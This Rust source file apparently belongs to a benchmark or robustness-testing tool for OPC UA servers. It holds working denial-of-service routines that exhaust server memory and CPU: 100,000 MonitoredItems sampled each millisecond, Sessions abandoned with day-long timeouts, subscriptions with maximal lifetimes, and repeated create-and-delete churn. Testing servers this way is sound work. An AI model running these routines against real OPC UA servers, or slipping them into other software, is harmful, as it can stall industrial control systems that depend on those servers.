//! Subscriptions of many MonitoredItems: kept, left behind, and deleted repeatedly.

use std::time::Duration;

use takt_ua::enumerations::{MonitoringMode, TimestampsToReturn};
use takt_ua::structures::*;
use takt_ua::{NodeId, ids};

use crate::channel::{Channel, Lost, PATIENCE, Session, Way};
use crate::request;
use crate::target::Attacker;
use crate::walking::browse_request;

/// Session timeout of clients that die, in milliseconds: the longest that servers grant.
const LONGEST_SESSION: f64 = 24.0 * 3600.0 * 1000.0;

/// Number of requests, each with a tenth of the items.
const REQUESTS: usize = 10;

/// Creates 100 000 MonitoredItems, sampled each millisecond. The attacker never asks for the values.
pub(crate) fn keep(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    monitor(attacker, &mut session)?;
    while attacker.goes_on() {
        // This request keeps the Session in use.
        let message = browse_request(session.header(), ids::SERVER, 1, 1);
        session.channel.push(attacker, &message)?;
        session.channel.receive(attacker, PATIENCE)?;
        attacker.wait(Duration::from_millis(200));
    }
    Ok(())
}

/// Creates the same number of items and leaves them behind with their Session, without CloseSession.
pub(crate) fn abandon(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    monitor(attacker, &mut session)?;
    drop(session);
    attacker.hold();
    Ok(())
}

/// Creates many Subscriptions with the longest lifetimes on several Sessions, whose connections close then: so the kernel leaves
/// the server when it kills a client.
pub(crate) fn die(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut sessions = Vec::new();
    for _ in 0..4 {
        let channel = Channel::open(attacker, Way::Tcp)?;
        let uri = "urn:takt:bench:attack:dead";
        let mut session = Session::open_for(attacker, channel, uri, LONGEST_SESSION)?;
        for _ in 0..attacker.count(20) {
            // The server may have no more memory for this Session.
            let Ok(subscription) = session.subscribe_for(attacker, u32::MAX) else {
                break;
            };
            monitor_in(attacker, &mut session, subscription, 1_000)?;
        }
        sessions.push(session);
    }
    drop(sessions);
    attacker.hold();
    Ok(())
}

/// Creates the same number of items and deletes them with their Subscription, repeatedly.
pub(crate) fn delete(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    while attacker.goes_on() {
        let request = DeleteSubscriptionsRequest {
            subscription_ids: vec![monitor(attacker, &mut session)?],
            request_header: session.header(),
        };
        let _: DeleteSubscriptionsResponse = session.channel.call(attacker, &request)?;
    }
    Ok(())
}

/// Creates the same number of items and deletes them with their Session, repeatedly.
pub(crate) fn close(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    while attacker.goes_on() {
        let mut session = Session::open(attacker, Way::Tcp)?;
        monitor(attacker, &mut session)?;
        let request = CloseSessionRequest {
            request_header: session.header(),
            delete_subscriptions: true,
        };
        let _: CloseSessionResponse = session.channel.call(attacker, &request)?;
    }
    Ok(())
}

/// Creates a Subscription of 100 000 MonitoredItems and returns its id.
fn monitor(attacker: &mut Attacker<'_>, session: &mut Session) -> Result<u32, Lost> {
    let subscription_id = session.subscribe(attacker)?;
    let count = attacker.count(100_000 / REQUESTS);
    for _ in 0..REQUESTS {
        monitor_in(attacker, session, subscription_id, count)?;
    }
    Ok(subscription_id)
}

/// Creates `count` MonitoredItems in a Subscription.
fn monitor_in(
    attacker: &mut Attacker<'_>,
    session: &mut Session,
    subscription_id: u32,
    count: usize,
) -> Result<(), Lost> {
    let item = |handle: usize| MonitoredItemCreateRequest {
        item_to_monitor: ReadValueId {
            node_id: NodeId::numeric(0, ids::SERVER_SERVER_STATUS_CURRENT_TIME),
            attribute_id: 13,
            ..ReadValueId::default()
        },
        monitoring_mode: MonitoringMode::Reporting,
        requested_parameters: MonitoringParameters {
            client_handle: u32::try_from(handle).unwrap_or_default(),
            sampling_interval: 1.0,
            queue_size: 10,
            discard_oldest: true,
            ..MonitoringParameters::default()
        },
    };
    let request = CreateMonitoredItemsRequest {
        request_header: session.header(),
        subscription_id,
        timestamps_to_return: TimestampsToReturn::Both,
        items_to_create: (0..count).map(item).collect(),
    };
    session
        .channel
        .push(attacker, &request::message(&request))?;
    session.channel.receive(attacker, PATIENCE)?;
    Ok(())
}
